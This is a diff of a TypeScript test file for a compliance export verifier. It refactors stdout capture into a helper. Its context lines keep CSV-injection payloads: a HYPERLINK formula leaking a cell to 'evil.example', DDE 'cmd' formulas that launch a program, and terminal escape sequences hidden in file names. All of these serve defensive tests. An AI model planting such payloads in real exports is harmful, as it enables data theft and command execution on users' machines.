@@ -14,6 +14,20 @@ import { POISONED_ADD, TelemetryBuilder } from './support/telemetry.builder.js';
 type Record = { id: string; path?: string; files: { path: string }[] };
 
 // Names a monitored server chooses, written as spreadsheet formulas (OWASP "CSV injection").
+/** Runs verify-export on each path in turn, keeping what it prints on stdout: the exit codes and the lines. */
+async function verifyPrinting(...paths: string[]): Promise<{ codes: number[]; out: string[] }> {
+  const out: string[] = [];
+  const codes: number[] = [];
+  const write = process.stdout.write.bind(process.stdout);
+  process.stdout.write = ((chunk: string) => out.push(String(chunk)) > 0) as typeof process.stdout.write;
+  try {
+    for (const target of paths) codes.push(await runVerifyExport(target));
+  } finally {
+    process.stdout.write = write;
+  }
+  return { codes, out };
+}
+
 const FORMULA_TOOL = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")';
 const FORMULA_SESSION = "=cmd|' /C calc'!A0";
 const FORMULA_CLIENT = '@SUM(1+1)*cmd|\' /C calc\'!A0';
@@ -179,14 +193,8 @@ describe('compliance export and verify-export', () => {
     rmSync(path.join(dir, 'events.ndjson'));
     mkdirSync(path.join(dir, 'events.ndjson'));
     expect(verifyBundle(dir)).toEqual({ ok: false, problem: 'events.ndjson was replaced by a folder' });
-    const out: string[] = [];
-    const write = process.stdout.write.bind(process.stdout);
-    process.stdout.write = ((chunk: string) => out.push(String(chunk)) > 0) as typeof process.stdout.write;
-    try {
-      expect(await runVerifyExport(dir)).toBe(1);
-    } finally {
-      process.stdout.write = write;
-    }
+    const { codes, out } = await verifyPrinting(dir);
+    expect(codes).toEqual([1]);
     expect(out).toEqual(['FAILED: events.ndjson was replaced by a folder\n']);
 
     dir = copy('ndjson');
@@ -327,18 +335,10 @@ describe('compliance export and verify-export', () => {
     expect(response.status).toBe(200);
     const archive = path.join(scratch, 'bundle.tar.gz');
     writeFileSync(archive, Buffer.from(await response.arrayBuffer()));
-    const out: string[] = [];
-    const write = process.stdout.write.bind(process.stdout);
-    process.stdout.write = ((chunk: string) => out.push(String(chunk)) > 0) as typeof process.stdout.write;
-    try {
-      expect(await runVerifyExport(archive)).toBe(0);
-      expect(await runVerifyExport(bundles.ndjson!)).toBe(0);
-      const broken = copy('ndjson');
-      writeFileSync(path.join(broken, 'events.ndjson'), 'tampered\n');
-      expect(await runVerifyExport(broken)).toBe(1);
-    } finally {
-      process.stdout.write = write;
-    }
+    const broken = copy('ndjson');
+    writeFileSync(path.join(broken, 'events.ndjson'), 'tampered\n');
+    const { codes, out } = await verifyPrinting(archive, bundles.ndjson!, broken);
+    expect(codes).toEqual([0, 0, 1]);
     expect(out[0]).toBe('OK\n');
     expect(out[2]).toMatch(/^FAILED: events\.ndjson was altered/);
   });
@@ -350,15 +350,8 @@ describe('compliance export and verify-export', () => {
     writeFileSync(path.join(added, overwrite), '');
     const garbled = copy('ndjson');
     writeFileSync(path.join(garbled, 'manifest.json'), `${overwrite}\n`);
-    const out: string[] = [];
-    const write = process.stdout.write.bind(process.stdout);
-    process.stdout.write = ((chunk: string) => out.push(String(chunk)) > 0) as typeof process.stdout.write;
-    try {
-      expect(await runVerifyExport(added)).toBe(1);
-      expect(await runVerifyExport(garbled)).toBe(1);
-    } finally {
-      process.stdout.write = write;
-    }
+    const { codes, out } = await verifyPrinting(added, garbled);
+    expect(codes).toEqual([1, 1]);
     expect(out).toHaveLength(2);
     for (const line of out) expect([...line.slice(0, -1)].filter((c) => isControlCodePoint(c.codePointAt(0)!)), line).toEqual([]);
     expect(out[0]).toBe('FAILED: \\r\\u001b[2K\\u001b[32mOK\\u001b[0m\\u001b[8m was added (not in the manifest)\n');
@@ -368,14 +361,8 @@ describe('compliance export and verify-export', () => {
   it('verify-export names a file that is not a bundle archive in one line instead of failing with a stack', async () => {
     const junk = path.join(scratch, 'not-a-bundle.tar.gz');
     writeFileSync(junk, 'this is not gzip');
-    const out: string[] = [];
-    const write = process.stdout.write.bind(process.stdout);
-    process.stdout.write = ((chunk: string) => out.push(String(chunk)) > 0) as typeof process.stdout.write;
-    try {
-      expect(await runVerifyExport(junk)).toBe(1);
-    } finally {
-      process.stdout.write = write;
-    }
+    const { codes, out } = await verifyPrinting(junk);
+    expect(codes).toEqual([1]);
     expect(out.join('')).toMatch(/^FAILED: \S+not-a-bundle\.tar\.gz is not a bundle archive \(\.tar\.gz\): [^\n]+\n$/);
   });
 });
